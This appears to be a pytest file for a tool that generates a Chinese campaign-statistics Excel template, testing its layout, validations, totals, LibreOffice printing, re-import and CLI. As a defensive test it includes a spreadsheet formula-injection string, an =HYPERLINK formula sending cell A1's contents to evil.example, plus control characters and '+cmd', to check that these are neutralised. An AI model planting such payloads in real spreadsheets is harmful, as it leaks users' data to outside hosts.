"""The fill-in 统计表 (`campaigns template`): the layout read back with openpyxl (title,
填报单位, header, validations, 合计 formulas, footer, frozen header, borders, widths, print
setup), printed by LibreOffice on one A4 landscape page, filled in by openpyxl and by
LibreOffice, hostile text neutralised, the command itself, and the import of a filled-in
template."""

from __future__ import annotations

import io
import os
import re
import subprocess
from collections.abc import Sequence
from datetime import date, datetime
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.worksheet import Worksheet

from campaigns.planning.metrics import BUILTIN_CATALOGUE, Metric
from campaigns.planning.observances import OBSERVANCES, local_bounds
from campaigns.tallies import templates
from campaigns.tallies.templates import (
    ACTIVITY_FORMS,
    FIRST_ROW,
    HEADER_ROW,
    display_width,
    metric_header,
    template_metrics,
    template_title,
    write_template,
)
from tests.conftest import make_env
from tests.test_report_docx import _ALIAS, FONTS_CONF, SUBSTITUTES, need, pdf_pages

FIRST, LAST = date(2025, 12, 1), date(2025, 12, 7)
TITLE = '2025年国家宪法日暨"宪法宣传周"'
METRICS = template_metrics(
    OBSERVANCES["constitution-day"].headline_metrics, {"funding": 5000}, BUILTIN_CATALOGUE
)
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")\x07\x1b\r\n+cmd'


def template(**overrides: Any) -> bytes:
    arguments: dict[str, Any] = {
        "title": TITLE,
        "first_day": FIRST,
        "last_day": LAST,
        "metrics": METRICS,
        "unit": "浚县司法局",
    }
    return write_template(**{**arguments, **overrides})


def sheet_of(data: bytes, *, data_only: bool = False) -> Worksheet:
    workbook = load_workbook(io.BytesIO(data), data_only=data_only)
    sheet = workbook.worksheets[0]
    assert isinstance(sheet, Worksheet)
    return sheet


# --- columns -----------------------------------------------------------------------------------


def test_columns_are_the_headline_metrics_then_those_with_targets() -> None:
    ids = [m.id for m in METRICS]
    assert ids == ["attendance", "materials", "lectures", "consultations", "boards", "funding"]
    ip_day = OBSERVANCES["world-ip-day"].headline_metrics
    assert [m.id for m in template_metrics(ip_day, {}, BUILTIN_CATALOGUE)] == list(ip_day)
    assert [m.id for m in template_metrics((), {}, BUILTIN_CATALOGUE)] == [
        "materials",
        "boards",
        "consultations",
        "attendance",
    ]
    assert [m.id for m in template_metrics((), {"volunteers": 9}, BUILTIN_CATALOGUE)] == [
        "volunteers"
    ]


def test_headers_are_the_catalogue_names_with_their_units() -> None:
    assert [metric_header(m) for m in METRICS] == [
        "参与人次",
        "宣传资料（份）",
        "讲座（场）",
        "咨询（人次）",
        "展板（块）",
        "经费（元）",
    ]
    for metric in BUILTIN_CATALOGUE:
        header = metric_header(metric)
        assert header.startswith(metric.zh)
        assert header == metric.zh or header == f"{metric.zh}（{metric.unit_zh}）"
    custom = Metric("quiz", "知识竞赛", "quizzes", "场", "sessions")
    assert metric_header(custom) == "知识竞赛（场）"
    assert metric_header(Metric("x", "无单位", "x", "", "")) == "无单位"


def test_title_of_the_sheet() -> None:
    assert template_title(TITLE) == '2025年国家宪法日暨"宪法宣传周"活动情况统计表'
    assert template_title("2025年国家宪法日宣传活动") == "2025年国家宪法日宣传活动情况统计表"
    assert template_title("鹤壁市活动统计表") == "鹤壁市活动统计表"


# --- the layout, read back -------------------------------------------------------------------

HEADERS = [
    "序号",
    "活动日期",
    "活动地点",
    "活动形式",
    "参与人次",
    "宣传资料（份）",
    "讲座（场）",
    "咨询（人次）",
    "展板（块）",
    "经费（元）",
    "备注",
]
LAST_COL = get_column_letter(len(HEADERS))
TOTAL_ROW = FIRST_ROW + templates.EMPTY_ROWS
FOOTER_ROW = TOTAL_ROW + 1


def check_layout(sheet: Worksheet, *, unit: str = "浚县司法局", view: bool = True) -> None:
    """What a template (as written, or after LibreOffice saved it) must still have; `view`:
    the frozen header too (LibreOffice headless has no view, and saves a default one)."""
    merged = {str(r) for r in sheet.merged_cells.ranges}
    assert f"A1:{LAST_COL}1" in merged
    assert f"A{TOTAL_ROW}:D{TOTAL_ROW}" in merged
    assert sheet["A1"].value == '2025年国家宪法日暨"宪法宣传周"活动情况统计表'
    assert sheet["A1"].font.bold and sheet["A1"].font.sz >= 16
    assert sheet["A2"].value == f"填报单位：{unit}（盖章）"
    texts = [str(c.value) for c in sheet[2] if c.value]
    assert any(text.startswith("填报日期：") for text in texts)
    assert str(sheet["A3"].value).startswith("填表说明：")
    assert [c.value for c in sheet[HEADER_ROW]] == HEADERS
    assert sheet[f"A{TOTAL_ROW}"].value == "合计"
    for col in range(5, 11):
        letter = get_column_letter(col)
        formula = str(sheet[f"{letter}{TOTAL_ROW}"].value).replace("$", "")
        assert formula.upper() == f"=SUM({letter}{FIRST_ROW}:{letter}{TOTAL_ROW - 1})"
    footer = [c.value for c in sheet[FOOTER_ROW] if c.value]
    assert footer == ["填表人：", "审核人：", "联系电话："]
    if view:
        assert sheet.freeze_panes == f"A{FIRST_ROW}"
    # Borders around every cell of the table, header to 合计 (whose merged label has its
    # outline only).
    for row in range(HEADER_ROW, TOTAL_ROW + 1):
        for col in range(1, len(HEADERS) + 1):
            border = sheet.cell(row, col).border
            sides = [border.top, border.bottom]
            if row != TOTAL_ROW or col not in (2, 3, 4):
                sides.append(border.left)
            if row != TOTAL_ROW or col not in (1, 2, 3):
                sides.append(border.right)
            assert all(side is not None and side.style for side in sides), (row, col)
    assert sheet["A1"].border.bottom is None or not sheet["A1"].border.bottom.style
    # Columns at least as wide as their header (a Chinese character counts two).
    for col, header in enumerate(HEADERS, start=1):
        width = sheet.column_dimensions[get_column_letter(col)].width
        assert width >= display_width(header), header
    # A4 landscape, one page wide.
    setup = sheet.page_setup
    assert int(setup.paperSize) == int(sheet.PAPERSIZE_A4)
    assert setup.orientation == "landscape"
    assert int(setup.fitToWidth) == 1
    assert sheet.sheet_properties.pageSetUpPr is not None
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    check_validations(sheet)


def check_validations(sheet: Worksheet) -> None:
    found = {v.type: v for v in sheet.data_validations.dataValidation}
    assert set(found) == {"whole", "date", "list"}
    whole, day, forms = found["whole"], found["date"], found["list"]
    assert str(whole.sqref) == f"E{FIRST_ROW}:J{TOTAL_ROW - 1}"
    assert whole.operator == "greaterThanOrEqual" and whole.formula1 == "0"
    assert str(day.sqref) == f"B{FIRST_ROW}:B{TOTAL_ROW - 1}"
    assert day.operator in (None, "between")
    assert {_day_of(day.formula1), _day_of(day.formula2)} == {FIRST, LAST}
    assert str(forms.sqref) == f"D{FIRST_ROW}:D{TOTAL_ROW - 1}"
    assert forms.formula1 is not None
    listed = forms.formula1.strip('"').replace(";", ",").split(",")
    assert listed == list(ACTIVITY_FORMS)
    for validation in (whole, day):
        assert validation.showErrorMessage and validation.errorStyle in (None, "stop")


def _day_of(formula: str | None) -> date:
    """DATE(2025,12,1) as openpyxl writes it, or the serial number LibreOffice saves."""
    assert formula is not None
    match = re.fullmatch(r"DATE\((\d+),(\d+),(\d+)\)", formula.replace(" ", ""))
    if match:
        return date(*map(int, match.groups()))
    return date.fromordinal(date(1899, 12, 30).toordinal() + int(float(formula)))


def test_the_layout_read_back() -> None:
    data = template()
    sheet = sheet_of(data)
    check_layout(sheet)
    assert sheet.title == "浚县司法局"
    # The activity rows are empty, ready to fill, with their formats.
    for row in sheet.iter_rows(min_row=FIRST_ROW, max_row=TOTAL_ROW - 1):
        assert all(c.value is None for c in row)
    assert sheet[f"B{FIRST_ROW}"].number_format == "yyyy-mm-dd"
    assert sheet[f"E{FIRST_ROW}"].number_format == "#,##0"
    assert sheet[f"E{FIRST_ROW}"].alignment.horizontal == "right"
    # Formulas only in the 合计 row.
    formulas = [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == [f"{get_column_letter(c)}{TOTAL_ROW}" for c in range(5, 11)]
    # Every header cell says what goes in it; the note row names no column.
    for cell in sheet[HEADER_ROW]:
        assert cell.comment is not None and cell.comment.text, cell.coordinate
    note = str(sheet["A3"].value)
    assert "2025年12月1日至2025年12月7日" in note
    assert not any(header in note for header in HEADERS[1:])
    assert not any(m.zh in note for m in BUILTIN_CATALOGUE)
    setup = sheet.page_setup
    assert int(setup.fitToHeight) == 0
    assert sheet.print_area == f"'浚县司法局'!$A$1:${LAST_COL}${FOOTER_ROW}"
    assert sheet.print_title_rows == f"${HEADER_ROW}:${HEADER_ROW}"
    assert sheet.print_options.horizontalCentered
    assert not sheet.sheet_view.showGridLines
    # The merged title fits above the columns (a 16 pt character is about 2.9 units wide).
    total_width = sum(
        sheet.column_dimensions[get_column_letter(c)].width for c in range(1, len(HEADERS) + 1)
    )
    assert total_width >= display_width(str(sheet["A1"].value)) * 16 / 11


def test_without_a_unit_the_line_is_left_to_fill_in() -> None:
    sheet = sheet_of(template(unit=None))
    assert sheet.title == "统计表"
    assert sheet["A2"].value == "填报单位：" + "\u3000" * 10 + "（盖章）"


def test_a_one_day_campaign_and_many_metrics() -> None:
    metrics = list(BUILTIN_CATALOGUE)
    data = template(first_day=date(2025, 4, 15), last_day=date(2025, 4, 15), metrics=metrics)
    sheet = sheet_of(data)
    assert [c.value for c in sheet[HEADER_ROW]][4:-1] == [metric_header(m) for m in metrics]
    (day,) = [v for v in sheet.data_validations.dataValidation if v.type == "date"]
    assert day.formula1 == day.formula2 == "DATE(2025,4,15)"
    assert "日期填2025年4月15日（如2025-04-15）" in str(sheet["A3"].value)


@pytest.mark.parametrize(
    ("overrides", "message"),
    [
        ({"metrics": []}, "at least one metric"),
        ({"last_day": date(2025, 11, 30)}, "before it starts"),
        ({"rows": 0}, "at least one activity row"),
    ],
)
def test_refuses_what_cannot_be_a_template(overrides: dict[str, Any], message: str) -> None:
    with pytest.raises(ValueError, match=message):
        template(**overrides)


def test_hostile_title_and_unit_are_neutralised() -> None:
    data = template(title=HOSTILE, unit='=HYPERLINK("http://x")\x00[]:*?/\\县')
    sheet = sheet_of(data)
    title = str(sheet["A1"].value)
    assert title.startswith("'=HYPERLINK(")
    assert title.endswith("+cmd活动情况统计表")
    assert not re.search(r"[\x00-\x1f]", title)
    assert sheet["A2"].value == '填报单位：=HYPERLINK("http://x")[]:*?/\\县（盖章）'
    assert sheet.title == '=HYPERLINK("httpx")县'  # what a sheet name cannot hold, dropped
    formulas = [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert all(str(c.value).startswith("=SUM(") for c in formulas)
    assert len(formulas) == len(METRICS)


# --- filled in by openpyxl, and the import of it -------------------------------------------

# (活动日期, 活动地点, 活动形式, {column: value}, 备注)
ACTIVITIES: list[tuple[date, str, str, dict[str, int], str | None]] = [
    (date(2025, 12, 1), "浚县人民广场", "宣讲", {"参与人次": 300, "宣传资料（份）": 5000}, None),
    (date(2025, 12, 2), "浚县第一中学", "讲座", {"讲座（场）": 2, "参与人次": 450}, "宪法进校园"),
    (date(2025, 12, 4), "卫溪街道社区", "咨询", {"咨询（人次）": 120, "展板（块）": 0}, None),
    (date(2025, 12, 7), "县政务服务中心", "展览", {"展板（块）": 16, "经费（元）": 3500}, None),
]
EXPECTED_TOTALS = {
    "attendance": 750,
    "materials": 5000,
    "lectures": 2,
    "consultations": 120,
    "boards": 16,
    "funding": 3500,
}


def fill(data: bytes, activities: Sequence[Any] = ACTIVITIES) -> bytes:
    """The template as a county fills it in (openpyxl), 序号 included."""
    workbook = load_workbook(io.BytesIO(data))
    sheet = workbook.worksheets[0]
    assert isinstance(sheet, Worksheet)
    columns = {cell.value: cell.column for cell in sheet[HEADER_ROW]}
    for number, (day, venue, form, counts, note) in enumerate(activities, start=1):
        row = FIRST_ROW + number - 1
        sheet.cell(row, 1, number)
        sheet.cell(row, 2, day)
        sheet.cell(row, 3, venue)
        sheet.cell(row, 4, form)
        for header, value in counts.items():
            sheet.cell(row, columns[header], value)
        if note:
            sheet.cell(row, columns["备注"], note)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def test_filled_in_by_openpyxl_keeps_the_layout() -> None:
    sheet = sheet_of(fill(template()))
    check_layout(sheet)
    assert sheet[f"C{FIRST_ROW}"].value == "浚县人民广场"
    assert sheet[f"B{FIRST_ROW}"].value == datetime(2025, 12, 1)


def _import_totals(path: Path) -> dict[str, int]:
    from campaigns.tallies.sheets.reader import read_tally_file

    zone = ZoneInfo("Asia/Shanghai")
    report = read_tally_file(
        path,
        campaign_id="2025-constitution-day",
        catalogue=BUILTIN_CATALOGUE,
        timezone=zone,
        window=local_bounds(FIRST, LAST, zone),
    )
    assert report.errors == []
    totals: dict[str, int] = {}
    for metric, quantity in zip(report.accepted.metric, report.accepted.quantity, strict=True):
        totals[metric] = totals.get(metric, 0) + quantity
    # Each activity row's date and venue go with its tallies.
    activities = {
        (when.astimezone(zone).date() if when else None, venue)
        for when, venue in zip(report.accepted.occurred_at, report.accepted.venue, strict=True)
    }
    assert activities == {(day, venue) for day, venue, *_ in ACTIVITIES}
    return {metric: total for metric, total in totals.items() if total}


def test_a_filled_in_template_imports_back_exactly(tmp_path: Path) -> None:
    path = tmp_path / "浚县.xlsx"
    path.write_bytes(fill(template()))
    # The 合计 row holds formulas without cached values here (openpyxl does not compute
    # them); totals are the rows' sum, the 合计 row never counted.
    assert _import_totals(path) == EXPECTED_TOTALS


# --- LibreOffice: printed, and filled in ------------------------------------------------------


def soffice(sources: Sequence[Path], target: str, outdir: Path, tmp: Path) -> list[Path]:
    """`soffice --headless --convert-to TARGET` of `sources` into `outdir`, with the 公文
    fonts mapped to Noto CJK as the report tests do."""
    executable = need("soffice")
    conf = tmp / "fonts.conf"
    aliases = "\n".join(
        _ALIAS.format(name=name, to=to, extra=extra) for name, (to, extra) in SUBSTITUTES.items()
    )
    conf.write_text(FONTS_CONF.format(aliases=aliases))
    outdir.mkdir(parents=True, exist_ok=True)
    result = subprocess.run(
        [
            executable,
            f"-env:UserInstallation={(tmp / 'lo-profile').as_uri()}",
            "--headless",
            "--convert-to",
            target,
            "--outdir",
            str(outdir),
            *map(str, sources),
        ],
        capture_output=True,
        text=True,
        timeout=600,
        env={**os.environ, "FONTCONFIG_FILE": str(conf)},
    )
    extension = target.split(":")[0]
    outputs = [outdir / f"{source.stem}.{extension}" for source in sources]
    assert result.returncode == 0, result.stdout + result.stderr
    assert all(path.exists() for path in outputs), result.stdout + result.stderr
    return outputs


def pdf_page_size(pdf: bytes) -> tuple[float, float]:
    need("pdfinfo")
    result = subprocess.run(["pdfinfo", "-"], input=pdf, capture_output=True, timeout=60)
    match = re.search(rb"^Page size:\s+([\d.]+) x ([\d.]+) pts", result.stdout, re.M)
    assert match, result.stdout
    return float(match.group(1)), float(match.group(2))


def test_libreoffice_prints_the_template_on_one_a4_landscape_page(tmp_path: Path) -> None:
    sources = []
    for name, data in (
        ("blank", template(unit=None)),
        ("filled", fill(template())),
        ("all-metrics", template(metrics=list(BUILTIN_CATALOGUE))),
    ):
        sources.append(tmp_path / f"{name}.xlsx")
        sources[-1].write_bytes(data)
    pdfs = soffice(sources, "pdf", tmp_path / "pdf", tmp_path)
    for pdf in pdfs:
        data = pdf.read_bytes()
        assert pdf_pages(data) == 1, pdf.name
        width, height = pdf_page_size(data)
        assert (round(width), round(height)) == (842, 595), pdf.name


def test_filled_in_and_saved_by_libreoffice_keeps_the_layout(tmp_path: Path) -> None:
    source = tmp_path / "浚县.xlsx"
    source.write_bytes(fill(template()))
    (saved,) = soffice([source], "xlsx:Calc MS Excel 2007 XML", tmp_path / "lo", tmp_path)
    data = saved.read_bytes()
    sheet = sheet_of(data)
    check_layout(sheet, view=False)
    assert sheet[f"C{FIRST_ROW}"].value == "浚县人民广场"
    # LibreOffice computed the 合计 row and saved the values beside the formulas.
    values = sheet_of(data, data_only=True)
    totals = [values.cell(TOTAL_ROW, col).value for col in range(5, 11)]
    assert totals == [750, 5000, 2, 120, 16, 3500]
    assert values[f"B{FIRST_ROW}"].value == datetime(2025, 12, 1)


# --- the command --------------------------------------------------------------------------------


def test_the_command_writes_the_campaigns_template(tmp_path: Path) -> None:
    env = make_env(f"sqlite:///{tmp_path / 'campaigns.db'}", tmp_path / "data")
    env.ok("create", "constitution-day", "--year", "2025", "--title", TITLE)
    env.ok(
        "create",
        "quiz-week",
        "--year",
        "2025",
        "--start",
        "2025-06-01",
        "--end",
        "2025-06-03",
        "--title",
        '=HYPERLINK("http://evil.example")',
        "--target",
        "volunteers=40",
        "--target",
        "materials=1000",
    )
    target = tmp_path / "浚县.xlsx"
    out = env.ok("template", "2025-constitution-day", "--unit", "浚县司法局", "-o", str(target))
    assert out.startswith(
        f"wrote {target} (5 metric columns: 参与人次、宣传资料、讲座、咨询、展板;"
    )
    sheet = sheet_of(target.read_bytes())
    assert sheet["A2"].value == "填报单位：浚县司法局（盖章）"
    assert [c.value for c in sheet[HEADER_ROW]][4:-1] == HEADERS[4:9]
    # The default file name, in the working directory; a custom kind gets its targets.
    env.ok("template", "2025-quiz-week")
    quiz = sheet_of((env.data_dir / "2025-quiz-week-统计表.xlsx").read_bytes())
    assert str(quiz["A1"].value).startswith("'=HYPERLINK(")
    assert [c.value for c in quiz[HEADER_ROW]][4:-1] == ["宣传资料（份）", "志愿者（人）"]
    (day,) = [v for v in quiz.data_validations.dataValidation if v.type == "date"]
    assert (day.formula1, day.formula2) == ("DATE(2025,6,1)", "DATE(2025,6,3)")
    for bad, message in (
        (["2030-nothing"], "unknown campaign '2030-nothing'"),
        (["2025-quiz-week", "-o", str(tmp_path / "x.csv")], "a template is an .xlsx file"),
        (["2025-quiz-week", "-o", str(tmp_path / "no" / "x.xlsx")], "does not exist"),
        (["2025-quiz-week", "--unit", "浚县\n=cmd"], "without control characters"),
        (["2025-quiz-week", "--unit", " "], "--unit"),
    ):
        result = env.run("template", *bad)
        assert result.returncode == 1, result
        assert message in result.stderr and "Traceback" not in result.stderr
        assert len(result.stderr.strip().splitlines()) == 1
